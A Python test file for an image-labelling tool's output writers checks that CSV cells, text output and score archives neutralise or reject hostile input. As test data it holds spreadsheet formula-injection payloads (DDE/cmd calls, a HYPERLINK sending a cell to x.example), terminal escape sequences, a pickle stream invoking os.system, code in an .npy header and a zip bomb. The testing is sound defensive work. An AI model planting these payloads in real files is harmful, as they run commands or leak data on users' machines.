"""Files that people and spreadsheets read: CSV, JSONL, text rows, summary, result files."""

import contextlib
import csv
import io
import itertools
import json
import re
import unicodedata
import zipfile
from dataclasses import replace
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from conftest import Promise
from costs import compare_costs
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from mlfinetune.cli.summary import format_summary
from mlfinetune.data.targets import LabelSpace
from mlfinetune.errors import CheckpointError
from mlfinetune.metrics.types import (
    CalibrationError,
    CalibrationFacts,
    CrossFittedRates,
    DecisionRule,
    Evaluation,
    Facts,
    Intervals,
    LabelIntervals,
    LabelMetrics,
    MetricTable,
    Prediction,
    ReliabilityBin,
    ReviewBand,
    ScoreTable,
)
from mlfinetune.runs import directory
from mlfinetune.runs.damaged import load_arrays
from mlfinetune.runs.predictions import FORMATS, LabelSelector
from mlfinetune.runs.results import parse_facts, read_scores, write_results, write_scores
from mlfinetune.text import make_printable, neutralize

LABELS = LabelSpace(("cat", "dog", "bird"))
FORMULAS = [
    *("=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://x.example/?"&A1,"click")', '=1+1";=2'),
    *("=IMPORTXML(A1;B1)", '=WEBSERVICE("http://x.example/")', '=DDE("cmd";"/C calc";"x")', "="),
    *("+1+1", "+49 30 1234", "+cmd|' /C calc'!A0", "+", "-1+1", "-2+3+cmd|' /C calc'!A0", "--1"),
    *("-", "@SUM(1+1)", "@", "==1", "=+1", "@=1", "＝1+1", "＋1", "－1", "＠SUM(A1)", "＝", "\t"),
    *("\t=1", "\r=1", "\n=1", "\0=1", "\r\n=1", "\0", "\t\t@x"),
]
PLAIN = ["cat", "a=b", "1+1", " =1", "'=1", "", "é", "🐈", "x\t=1", "img-1.jpg", "./-1.jpg", "#1"]
NAMES = ["a\nb.jpg", "猫/é e\u0301.jpg", "a\udcffb.jpg", '"x"', "\\udcff", "\u2028", "\0", "=1+1"]
NAMES += ["\r\n", "\ud800", "caf\udce9\n猫", "a,b|c"]
CONTROLS = ["\x1b[31m", "\r", "\n", "\t", "\a", "\b", "\0", "\x7f", "\x9b2J", "\u202e", "\u2028"]
CONTROLS += ["\udcff", "\u200f", "\x1b]0;title\a", "\u2066", "\x85"]


def row(name: str, *p: float, error: str | None = None) -> Prediction:
    """Return a prediction, or an unreadable picture."""
    return Prediction(name, np.array(p) if p else None, error)


def written(
    format: str,
    *rows: Prediction,
    labels: LabelSpace = LABELS,
    top: int | None = None,
    only_labels: bool = False,
    decision: DecisionRule | None = None,
) -> str:
    """Write the rows in a format, to a file as `predict` opens it; return its text."""
    bytes_ = io.BytesIO()
    with io.TextIOWrapper(bytes_, "utf-8", errors="backslashreplace", newline="") as file:
        choice = LabelSelector(labels, decision or DecisionRule.plain(len(labels)), top)
        writer = FORMATS[format](file, choice, only_labels)
        for prediction in rows:
            writer.write(prediction)
        file.flush()
        return bytes_.getvalue().decode()


def cells(text: str) -> list[list[str]]:
    """Return the rows of a CSV."""
    return list(csv.reader(io.StringIO(text, newline="")))


def lines(text: str) -> list[dict[str, object]]:
    """Return the rows of a JSONL."""
    assert text.endswith("\n")
    return [json.loads(line) for line in text.removesuffix("\n").split("\n")]


# ---- inert ------------------------------------------------------------------------------


@pytest.mark.parametrize("cell", FORMULAS)
def test_a_formula_is_neutralised(cell: str) -> None:
    """A cell that a spreadsheet would run gets an apostrophe, and nothing else changes."""
    assert neutralize(cell) == "'" + cell


@pytest.mark.parametrize("cell", PLAIN)
def test_other_cells_are_left_alone(cell: str) -> None:
    """A sign that is not the first is text."""
    assert neutralize(cell) == cell


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_of_a_csv_is_a_formula(text: str) -> None:
    """Names, labels, the labels of the header and errors are inert, after reading too."""
    labels = LabelSpace((text, "b"))
    made = written("csv", row(text, 0.9, 0.1), row("x", error=text), labels=labels)
    assert cells(made) == [
        ["image", "labels", "'" + text, "b", "error"],
        ["'" + text, "'" + text, "0.900000", "0.100000", ""],
        ["x", "", "", "", "'" + text],
    ]


@pytest.mark.faults
def test_every_formula_is_inert(promise: Promise) -> None:
    """P10: as name, label, tags and error of predictions.csv; JSONL holds the exact text."""
    failures = []
    for text in FORMULAS:
        labels = LabelSpace((text, "b"))
        rows = (row(text, 0.9, 0.1), row("x", error=text))
        found = {cell for line in cells(written("csv", *rows, labels=labels)) for cell in line}
        exact, failed = lines(written("jsonl", *rows, labels=labels))
        kept = [exact["image"], exact["labels"], failed["error"]] == [text, [text], text]
        if "'" + text not in found or text in found or not kept:
            failures.append((text, sorted(found)))
    promise("P10", len(FORMULAS), failures)


# ---- CSV --------------------------------------------------------------------------------


def test_csv_is_wide() -> None:
    """Header, labels over the threshold, probabilities with 6 digits in label order."""
    text = written("csv", row("b.jpg", 0.5, 0.123456789, 1.0), row("a.jpg", 0.4, 0.0, 1e-9))
    assert text == (
        "image,labels,cat,dog,bird,error\r\n"
        "b.jpg,cat|bird,0.500000,0.123457,1.000000,\r\n"
        "a.jpg,,0.400000,0.000000,0.000000,\r\n"
    )


def test_an_unreadable_picture_has_a_row_with_an_error() -> None:
    """The row of an unreadable picture stands in its place, as wide as the others."""
    text = written("csv", row("a.jpg", 0.9, 0, 0), row("b.jpg", error="cut, short"))
    assert cells(text)[2] == ["b.jpg", "", "", "", "", "cut, short"]
    assert {len(cell) for cell in cells(text)} == {6}


def test_rows_stay_in_order() -> None:
    """A thousand rows come out as they went in."""
    names = [f"{i * 7919 % 1000}.jpg" for i in range(1000)]
    text = written("csv", *(row(name, 0.1, 0.2, 0.3) for name in names))
    assert [cell[0] for cell in cells(text)[1:]] == names


def test_top_names_the_most_probable() -> None:
    """The K best by falling probability, threshold or not, equal ones in label order."""
    rows = (row("a", 0.1, 0.3, 0.2), row("b", 0.9, 0.8, 0.95), row("c", 0.4, 0.4, 0.4))
    text = written("csv", *rows, top=2)
    assert [cell[1] for cell in cells(text)[1:]] == ["dog|bird", "bird|cat", "cat|dog"]
    assert cells(text)[1][2:5] == ["0.100000", "0.300000", "0.200000"]


def test_top_beyond_the_labels_names_all() -> None:
    """More labels than there are cannot be asked for in vain."""
    assert cells(written("csv", row("a", 0.1, 0.3, 0.2), top=9))[1][1] == "dog|bird|cat"


def test_only_labels_leaves_the_probabilities_out() -> None:
    """Image, labels and error are what stays, in CSV and in JSONL."""
    rows = (row("a", 0.9, 0.1, 0.7), row("b", error="bad"))
    made = cells(written("csv", *rows, only_labels=True))
    assert made == [["image", "labels", "error"], ["a", "cat|bird", ""], ["b", "", "bad"]]
    first, second = lines(written("jsonl", *rows, only_labels=True))
    assert first == {"image": "a", "labels": ["cat", "bird"]}
    assert second == {"image": "b", "error": "bad"}


# ---- JSONL ------------------------------------------------------------------------------


def test_a_line_of_jsonl() -> None:
    """Name, labels over the threshold, every score rounded to 6 digits."""
    (line,) = lines(written("jsonl", row("a.jpg", 0.5, 0.123456789, 1.0)))
    scores = {"cat": 0.5, "dog": 0.123457, "bird": 1.0}
    assert line == {"image": "a.jpg", "labels": ["cat", "bird"], "scores": scores}


@pytest.mark.parametrize("name", NAMES)
def test_jsonl_is_exact(name: str) -> None:
    """Names, labels and errors come back as they were, one line a row, no apostrophes."""
    labels = LabelSpace((name, "b"))
    first, second = lines(written("jsonl", row(name, 0.9, 0.1), row("x", 0.9, 0.1), labels=labels))
    assert first == {"image": name, "labels": [name], "scores": {name: 0.9, "b": 0.1}}
    assert second == {"image": "x", "labels": [name], "scores": {name: 0.9, "b": 0.1}}
    assert lines(written("jsonl", row("x", error=name))) == [{"image": "x", "error": name}]


def test_unicode_is_readable_in_jsonl() -> None:
    """A name is written in its own letters where UTF-8 has them."""
    assert '"猫.jpg"' in written("jsonl", row("猫.jpg", 0.1, 0.2, 0.3))


# ---- text -------------------------------------------------------------------------------


def test_a_line_of_text() -> None:
    """Labels by falling probability; the nearest one where none is over the threshold."""
    text = written("text", row("a.jpg", 0.6, 0.1, 0.9), row("b.jpg", 0.2, 0.3, 0.1))
    assert text == "a.jpg: bird 0.90, cat 0.60\nb.jpg: (none; nearest: dog 0.30)\n"
    assert written("text", row("b.jpg", error="bad")) == "b.jpg: error: bad\n"


@pytest.mark.parametrize("control", CONTROLS)
def test_text_moves_no_cursor(control: str) -> None:
    """Names, labels and errors cannot color the screen, move the cursor or turn the text."""
    name = f"a{control}b"
    labels = LabelSpace((name, f"{control}c"))
    rows = (row(name, 0.9, 0.8), row(name, 0.1, 0.2), row(name, error=name))
    for only_labels in (False, True):
        shown = written("text", *rows, labels=labels, only_labels=only_labels)
        assert shown.count("\n") == 3
        assert shown.replace("\n", "").isprintable()


def test_printable_keeps_what_can_be_seen() -> None:
    """Letters of all scripts and emoji stay."""
    assert make_printable("café 猫 🐈 naïve_1-2.jpg") == "café 猫 🐈 naïve_1-2.jpg"


# ---- the summary ------------------------------------------------------------------------


def label(name: str, ap: float | None = 0.5, positives: int = 1) -> LabelMetrics:
    """Return one label's numbers."""
    return LabelMetrics(name, positives, 1, ap, ap, ap, ap, ap, 0.5)


def measured(*rows: LabelMetrics, **facts: Any) -> Evaluation:
    """Return the verdict on two images of these labels."""
    names = ("mAP", "micro_AP", "macro_F1", "micro_F1", "CP", "CR", "CF1", "OP", "OR", "OF1")
    averages: dict[str, float | None] = {name: at / 10 for at, name in enumerate(names)}
    scored = sum(r.AP is not None for r in rows)
    table = MetricTable(averages, rows, 10**7, scored, "voc_11point")
    logits = np.zeros((2, len(rows)), np.float32)
    labels = LabelSpace(tuple(r.label for r in rows))
    scores = ScoreTable(("b.jpg", "=a.jpg"), logits, logits.astype(np.int8), labels)
    ends = {"mAP": (0.25, 0.75), "macro_F1": (0.125, 1.0), "micro_F1": None}
    per_label = tuple(LabelIntervals(r.label, r.AP and (0.125, 0.5), None, None) for r in rows)
    intervals = Intervals(ends, per_label, 1000)
    calibration = CalibrationFacts("none", CalibrationError(0.25, 0.125, ()), None)
    known = Facts("fixed", "nothing", intervals, None, calibration, None)
    return Evaluation(scores, table, DecisionRule.plain(len(rows)), replace(known, **facts))


def width(line: str) -> int:
    """Return columns that a line takes on a terminal."""
    return sum(2 if unicodedata.east_asian_width(c) in "WF" else 1 for c in line)


def test_the_summary_has_the_numbers() -> None:
    """Images, labels that were scored, and the six averages that the contract names."""
    text = format_summary(measured(label("cat"), label("dog", None)))
    assert text.startswith("10000000 images, mAP over 1 of 2 labels\n")
    numbers = "mAP 0.0000 macro F1 0.2000 CF1 0.6000 micro AP 0.1000 micro F1 0.3000 OF1 0.9000"
    assert f"{numbers} 95 % mAP 0.250 to 0.750, macro F1 0.125 to 1.000 label" in " ".join(
        text.split()
    )


def test_the_summary_says_what_the_thresholds_were_fitted_on() -> None:
    """F1s of the images that fitted them never stand alone."""
    fitted = {"threshold_source": "per_label", "fitted_on": "the same images"}
    honest = CrossFittedRates(0.5, 0.5, 0.125, 0.5, 0.5, None)
    text = format_summary(measured(label("cat"), **fitted, cross_fitted=honest))
    assert "fitted on these images (per_label)" in text
    assert "macro F1 0.1250, micro F1     -- (cross-fitted)" in text
    assert max(width(line) for line in text.splitlines()) <= 80
    text = format_summary(
        measured(label("cat"), threshold_source="global", fitted_on="other images")
    )
    assert "F1 above: the checkpoint's thresholds (global)" in text


def test_the_summary_is_sorted_by_ap() -> None:
    """The best label first, undefined ones last and shown as --."""
    rows = (label("low", 0.1), label("none", None, 0), label("high", 0.9), label("zero", 0.0))
    *_, high, low, zero, none = format_summary(measured(*rows)).splitlines()
    assert [line.split()[0] for line in (high, low, zero)] == ["high", "low", "zero"]
    assert none.split() == ["none", "--", "--", "0"]
    assert zero.split() == ["zero", "0.0000", "0.0000", "1"]


LONG = {"long": "x" * 300, "wide": "猫" * 60, "words": "a b " * 40, "red": "\x1b[31m" * 30}
LONG |= {"just fits": "é" * 44, "just too long": "é" * 45, "half as wide again": "é" * 66}


@pytest.mark.parametrize("name", LONG.values(), ids=LONG)
def test_the_summary_fits_80_columns(name: str) -> None:
    """Long names, wide letters and control characters do not break the table."""
    text = format_summary(measured(label(name, 0.5, 10**9), label("short")))
    assert max(width(line) for line in text.splitlines()) <= 80
    assert text.replace("\n", "").isprintable()
    assert len({width(line) for line in text.splitlines()[-2:]}) == 1


def test_a_thousand_labels_are_cut_in_the_middle() -> None:
    """The best twenty and the worst twenty are shown, the others counted."""
    text = format_summary(measured(*(label(f"label {i}", i / 1000) for i in range(1000))))
    shown = [line.split()[1] for line in text.splitlines() if line.startswith("  label ")][1:]
    assert shown == [str(i) for i in [*range(999, 979, -1), *range(19, -1, -1)]]
    assert "  ... 960 labels in between: see per_label.csv ..." in text
    assert max(width(line) for line in text.splitlines()) <= 80


@pytest.mark.parametrize("count", [40, 41])
def test_forty_labels_are_all_shown(count: int) -> None:
    """Nothing is counted where nothing is left out."""
    text = format_summary(measured(*(label(f"label{i}", i / 50) for i in range(count))))
    assert ("... 1 label in between" in text) == (count == 41)
    assert sum(line.startswith("  label") for line in text.splitlines()) == 1 + 40


REVIEW = replace(DecisionRule.plain(3), calibration="platt", review=(0.25, 0.75))


def test_the_file_says_that_probabilities_are_calibrated_and_which_need_review() -> None:
    """Every format, both ends of the range included; rows of unreadable pictures stay as wide."""
    rows = row("a.jpg", 0.75, 0.25, 0.9), row("b.jpg", 0.1, 0.9, 0.9), row("c.jpg", error="gone")
    header, a, b, c = cells(written("csv", *rows, decision=REVIEW))
    assert header[-3:] == ["calibration", "review", "error"]
    assert (a[-3:], b[-3:]) == (["platt", "cat|dog", ""], ["platt", "", ""])
    assert (len(c), c[-3:]) == (len(header), ["", "", "gone"])
    header, a, *_ = cells(written("csv", *rows, decision=REVIEW, only_labels=True))
    assert (header, a) == (
        ["image", "labels", "review", "error"],
        ["a.jpg", "cat|bird", "cat|dog", ""],
    )
    first, second, _ = lines(written("jsonl", *rows, decision=REVIEW))
    assert (first["calibration"], first["review"], second["review"]) == (
        "platt",
        ["cat", "dog"],
        [],
    )
    text = written("text", *rows, decision=REVIEW).splitlines()
    assert text[0] == "a.jpg: bird 0.90, cat 0.75; needs review: cat 0.75, dog 0.25"
    assert "review" not in text[1]


def test_uncalibrated_files_have_no_further_columns() -> None:
    """Only the columns of the contract are there."""
    header, _ = cells(written("csv", row("a.jpg", 0.75, 0.25, 0.9)))
    assert header == ["image", "labels", "cat", "dog", "bird", "error"]


def test_the_summary_says_how_much_there_is_to_review() -> None:
    """Images, and the share of mistakes that review would find."""
    band = ReviewBand(0.2, 0.8, images=7, pairs=9, wrong=5, wrong_inside=4)
    text = " ".join(format_summary(measured(label("cat"), review=band)).split())
    assert "7 images with a probability between 0.2 and 0.8; 4 of 5 wrong decisions" in text


# ---- result files -----------------------------------------------------------------------


def results(folder: Path, *rows: LabelMetrics) -> None:
    """The result files of two images."""
    probabilities = np.array([[0.75] * len(rows), [0.25] * len(rows)])
    write_results(folder, measured(*rows), probabilities, {"data": "validation", "epoch": 3})


def test_metrics_json_has_the_keys_of_the_contract(tmp_path: Path) -> None:
    """The numbers, null where undefined, and what was measured."""
    results(tmp_path, label("cat", 0.25, 7), label('"dög"\n', None, 0))
    content = json.loads((tmp_path / directory.METRICS).read_text("utf-8"))
    promised = {"mAP", "micro_AP", "macro_F1", "micro_F1", "CF1", "OF1", "labels_scored", "images"}
    assert content.keys() >= promised | {"per_label", "data", "epoch"}
    assert (content["CF1"], content["labels_scored"], content["images"]) == (0.6, 1, 10**7)
    assert (content["ap"], content["threshold_source"]) == ("voc_11point", "fixed")
    cat, dog = content["per_label"]["cat"], content["per_label"]['"dög"\n']
    assert cat.items() >= {"AP": 0.25, "F1": 0.25, "threshold": 0.5, "positives": 7}.items()
    assert dog.items() >= {"AP": None, "F1": None, "threshold": 0.5, "positives": 0}.items()


def test_facts_come_back_from_metrics_json(tmp_path: Path) -> None:
    """Facts of a plain decision, and facts that apply to few."""
    own = CalibrationError(0.25, 0.125, (ReliabilityBin(0.1, 0.0, 3), ReliabilityBin(0.75, 1.0, 2)))
    more = {
        "threshold_source": "precision",
        "fitted_on": "the same images",
        "cross_fitted": CrossFittedRates(0.5, 0.5, 0.125, 0.5, 0.5, None),
        "calibration": CalibrationFacts("platt", own, CalibrationError(None, None, ())),
        "review": ReviewBand(0.2, 0.8, images=7, pairs=9, wrong=5, wrong_inside=4),
    }
    for evaluation in (measured(label("cat")), measured(label("cat"), label("dog", None), **more)):
        write_results(tmp_path, evaluation, np.zeros((2, len(evaluation.table.per_label))), {})
        content = json.loads((tmp_path / directory.METRICS).read_text("utf-8"))
        assert parse_facts(content) == evaluation.facts


def test_per_label_csv_has_a_row_a_label(tmp_path: Path) -> None:
    """In label order, undefined cells empty, names inert."""
    results(tmp_path, label("cat", 0.25, 7), label("=dog", None, 0))
    header, cat, dog = cells((tmp_path / directory.PER_LABEL).read_bytes().decode())
    rates = ["AP", "F1", "precision", "recall", "AUROC"]
    ends = ["AP_low", "AP_high", "F1_low", "F1_high", "AUROC_low", "AUROC_high"]
    assert header == ["label", *rates, "threshold", "positives", "negatives", *ends]
    assert cat == ["cat", *["0.250000"] * 5, "0.5", "7", "1", "0.125000", "0.500000", *[""] * 4]
    assert dog == ["'=dog", *[""] * 5, "0.5", "0", "1", *[""] * 6]


def test_predictions_csv_is_what_predict_writes(tmp_path: Path) -> None:
    """The validation images in the format of predict, inert too."""
    results(tmp_path, label("cat"), label("dog"))
    assert cells((tmp_path / directory.PREDICTIONS).read_bytes().decode()) == [
        ["image", "labels", "cat", "dog", "error"],
        ["b.jpg", "cat|dog", "0.750000", "0.750000", ""],
        ["'=a.jpg", "", "0.250000", "0.250000", ""],
    ]


def test_results_are_four_whole_files(tmp_path: Path) -> None:
    """No temporary file stays, and metrics.json, the mark of completeness, is the last."""
    results(tmp_path, label("cat"))
    files = sorted(tmp_path.iterdir(), key=lambda path: path.stat().st_mtime_ns)
    tables = {"metrics.json", "per_label.csv", "predictions.csv", "scores.npz"}
    assert {path.name for path in files} == tables
    assert files[-1].stat().st_mtime_ns == (tmp_path / directory.METRICS).stat().st_mtime_ns


def test_names_that_are_no_unicode_can_be_written(tmp_path: Path) -> None:
    """A label from a folder whose name is no UTF-8 does not lose the results of a run."""
    results(tmp_path, label("caf\udce9"), label("dog"))
    content = json.loads((tmp_path / directory.METRICS).read_text("utf-8"))
    assert list(content["per_label"]) == ["caf\udce9", "dog"]


# ---- scores -----------------------------------------------------------------------------


def scored(*names: str, labels: tuple[str, ...] = ("cat", "dog")) -> ScoreTable:
    """Return a table whose probabilities would be all 1."""
    logits = 50 + np.arange(len(names) * len(labels), dtype=np.float32) / 7
    shape = (len(names), len(labels))
    targets = np.resize(np.array([1, 0, -1], np.int8), shape)
    return ScoreTable(names, logits.reshape(shape), targets, LabelSpace(labels))


@settings(deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    names=st.lists(st.text(st.characters()), max_size=5),
    labels=st.lists(st.text(st.characters()), max_size=3, unique=True),
)
def test_scores_come_back_as_they_were(tmp_path: Path, names: list[str], labels: list[str]) -> None:
    """Logits to the bit, and any text, surrogates and NUL included."""
    table = scored(*names, "\udcff\0.jpg", labels=tuple(labels))
    write_scores(tmp_path, table)
    again = read_scores(tmp_path)
    assert (again.names, again.labels) == (table.names, table.labels)
    assert again.logits.tobytes() == table.logits.tobytes()
    assert again.targets.tobytes() == table.targets.tobytes()
    assert [path.name for path in tmp_path.iterdir()] == [directory.SCORES]


@settings(deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(data=st.data())
def test_damaged_scores_are_refused_or_whole(tmp_path: Path, data: st.DataObject) -> None:
    """One flipped bit, or a file cut short, never gives other numbers."""
    wanted = replace(scored("a.jpg", "b.jpg"), calibration="temperature")
    write_scores(tmp_path, wanted)
    path = tmp_path / directory.SCORES
    content = bytearray(path.read_bytes())
    if data.draw(st.booleans()):
        content[data.draw(st.integers(0, len(content) - 1))] ^= 1 << data.draw(st.integers(0, 7))
    else:
        del content[data.draw(st.integers(0, len(content) - 1)) :]
    path.write_bytes(content)
    with contextlib.suppress(CheckpointError):
        again = read_scores(tmp_path)
        assert (again.names, again.labels) == (wanted.names, wanted.labels)
        assert again.calibration == "temperature"
        assert again.logits.tobytes() == wanted.logits.tobytes()
        assert again.targets.tobytes() == wanted.targets.tobytes()


def test_no_damaged_length_hides_members(tmp_path: Path) -> None:
    """Every bit of the length of each member's comment, in the directory at the end."""
    write_scores(tmp_path, replace(scored("a.jpg", "b.jpg"), calibration="temperature"))
    path = tmp_path / directory.SCORES
    whole = path.read_bytes()
    entries = [match.start() for match in re.finditer(b"PK\x01\x02", whole)]
    for entry, bit in itertools.product(entries, range(16)):
        content = bytearray(whole)
        content[entry + 32 + bit // 8] ^= 1 << bit % 8
        path.write_bytes(content)
        with contextlib.suppress(CheckpointError):
            assert read_scores(tmp_path).calibration == "temperature"
        with contextlib.suppress(CheckpointError):
            assert "calibration" in load_arrays(path, "")


@pytest.mark.parametrize(
    ("member", "value", "reason"),
    [
        ("logits", np.zeros((2, 2)), "logits is float64"),
        ("logits", np.zeros((3, 2), np.float32), r"logits is float32 \(3, 2\)"),
        ("logits", np.full((2, 2), np.nan, np.float32), "not finite"),
        ("targets", np.full((2, 2), 2, np.int8), "odd targets"),
        ("targets", np.array([[{}, 1], [0, 1]], object), "pickle"),
        ("names_at", np.array([0, 9, 5], np.int64), "odd offsets of names"),
        ("labels_at", np.array([], np.int64), "odd offsets of labels"),
        ("labels", np.frombuffer(b"catcat", np.uint8), "stands twice"),
        ("labels", None, "labels"),
        ("calibration", np.frombuffer(b"plat", np.uint8), "'plat' is none of"),
        ("calibration", np.frombuffer(b"\xff", np.uint8), "ascii"),
        ("calibration", np.array([], np.uint8), "'' is none of"),
        ("calibration", np.frombuffer(b"platt" * 10**5, np.uint8), "is none of"),
        ("calibration", np.array(True), r"calibration is bool \(\)"),
        ("calibration", np.array(["platt"]), "calibration is <U5"),
        ("calibration", np.array([{}], object), "pickle"),
    ],
)
def test_foreign_scores_are_refused(
    tmp_path: Path, member: str, value: np.ndarray[Any, Any] | None, reason: str
) -> None:
    """An archive of other arrays is told from ours, and the file is named."""
    write_scores(tmp_path, scored("a.jpg", "b.jpg"))
    path = tmp_path / directory.SCORES
    with np.load(path) as file:
        arrays = dict(file)
    arrays.pop(member)
    np.savez(path, **arrays, **({} if value is None else {member: value}))
    with pytest.raises(CheckpointError, match=f"scores.npz is damaged.*{reason}"):
        read_scores(tmp_path)


@pytest.mark.parametrize("calibration", ["none", "temperature", "platt", None])
def test_scores_say_whether_they_are_calibrated(tmp_path: Path, calibration: Any) -> None:
    """By name; a file from before that has no such member, and says that it is not known."""
    write_scores(tmp_path, replace(scored("a.jpg"), calibration=calibration))
    with np.load(tmp_path / directory.SCORES) as file:
        assert ("calibration" in file.files) == (calibration is not None)
        assert file["logits"].tobytes() == scored("a.jpg").logits.tobytes()
    again = read_scores(tmp_path)
    assert again.calibration == calibration
    assert again.names == ("a.jpg",)


def npy(header: str, data: bytes = b"") -> bytes:
    """Return a .npy file with this header."""
    text = header.ljust(117).encode() + b"\n"
    return b"\x93NUMPY\1\0" + len(text).to_bytes(2, "little") + text + data


@pytest.mark.parametrize(
    "member",
    [
        npy(f"{{'descr': '<f4', 'fortran_order': False, 'shape': ({10**30}, 3)}}"),
        npy(f"{{'descr': '<f4', 'fortran_order': False, 'shape': ({10**13}, 3)}}"),
        npy("{'descr': '<f4', 'fortran_order': False, 'shape': (-2, 3)}"),
        npy("{'descr': '|O', 'fortran_order': False, 'shape': (2, 3)}", b"cos\nsystem\n(Vx\ntR."),
        npy("{'descr': [], 'fortran_order': False, 'shape': (2, 3)}"),
        npy("[" * 100),
        npy("__import__('os').mkdir('canary')"),
        b"cos\nsystem\n(Vx\ntR.",
        b"",
    ],
)
def test_forged_arrays_are_refused(tmp_path: Path, member: bytes) -> None:
    """Claims of more than memory, objects, code: the file is named and nothing is allocated."""
    write_scores(tmp_path, scored("a.jpg", "b.jpg"))
    path = tmp_path / directory.SCORES
    with zipfile.ZipFile(path) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    with zipfile.ZipFile(path, "w") as archive:
        for name, content in (members | {"logits.npy": member}).items():
            archive.writestr(name, content)
    with pytest.raises(CheckpointError, match=r"scores\.npz is damaged"):
        read_scores(tmp_path)


def test_a_bomb_of_scores_is_not_unpacked(tmp_path: Path) -> None:
    """A hundred megabytes of zeros in a hundred kilobytes."""
    np.savez_compressed(tmp_path / directory.SCORES, logits=np.zeros(10**8, np.uint8))

    def unpack() -> None:
        with np.load(tmp_path / directory.SCORES) as file:
            assert len(file["logits"]) == 10**8

    def refuse() -> None:
        with pytest.raises(
            CheckpointError, match=r"scores\.npz is damaged.*bytes, more than the file has"
        ):
            read_scores(tmp_path)

    assert compare_costs(refuse, unpack) < 0.5


@pytest.mark.parametrize("content", [b"", b"PK", b"image,labels\n"])
def test_what_is_no_archive_is_refused(tmp_path: Path, content: bytes) -> None:
    """Empty, cut short, another file, a folder, or none at all."""
    path = tmp_path / directory.SCORES
    with pytest.raises(CheckpointError, match=f"no such file: {path}"):
        read_scores(tmp_path)
    path.write_bytes(content)
    with pytest.raises(CheckpointError, match="damaged, or not from mlfinetune"):
        read_scores(tmp_path)
    path.unlink()
    path.mkdir()
    with pytest.raises(CheckpointError, match="cannot read"):
        read_scores(tmp_path)
